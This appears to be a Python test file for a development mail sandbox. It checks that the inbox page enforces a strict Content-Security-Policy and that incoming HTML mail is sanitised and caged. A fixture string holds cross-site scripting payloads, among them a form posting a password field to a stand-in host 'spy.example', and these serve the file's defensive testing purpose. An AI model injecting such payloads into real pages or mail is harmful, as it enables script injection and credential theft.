"""The inbox page and the mails it shows cannot act on the reader's machine."""

from __future__ import annotations

from email.message import EmailMessage

import aiohttp
import aiosmtplib

from devstack.sandbox import Sandbox
from devstack.sandbox.inbox import cleaned

HOSTILE = """<script>alert(1)</script><img src="http://spy.example/x.gif" onerror="alert(1)">
<table style="color: red"><tr><td>Mail EU</td></tr></table><a href="javascript:alert(1)">x</a>
<form action="http://spy.example"><input name="password"></form><iframe src="//spy"></iframe>"""


async def test_the_page_may_run_its_own_script_alone(sandbox: Sandbox) -> None:
    async with aiohttp.ClientSession() as session, session.get(f"{sandbox.url}/") as answer:
        text, policy = await answer.text(), answer.headers["Content-Security-Policy"]
    nonce = policy.split("'nonce-")[1].split("'")[0]
    assert f'<script nonce="{nonce}">' in text
    assert "__NONCE__" not in text
    assert "unsafe-inline" not in policy
    assert "innerHTML" not in text


async def test_a_mails_html_is_shown_in_a_cage(sandbox: Sandbox) -> None:
    message = EmailMessage()
    message["From"], message["To"] = "a@x.example", "b@y.example"
    message.set_content("plain")
    message.add_alternative(HOSTILE, subtype="html")
    await aiosmtplib.send(message, hostname="127.0.0.1", port=sandbox.smtp_port, start_tls=False)
    url = f"{sandbox.url}/messages/{sandbox.messages()[0]['id']}/html"
    async with aiohttp.ClientSession() as session, session.get(url) as answer:
        text, policy = await answer.text(), answer.headers["Content-Security-Policy"]
    assert "Mail EU" in text
    assert "default-src 'none'" in policy
    assert "sandbox" in policy


def test_nothing_that_acts_survives_the_cleaning() -> None:
    text = cleaned(HOSTILE)
    assert 'style="color: red"' in text
    for word in ("script", "onerror", "javascript", "<form", "<iframe", "<input"):
        assert word not in text
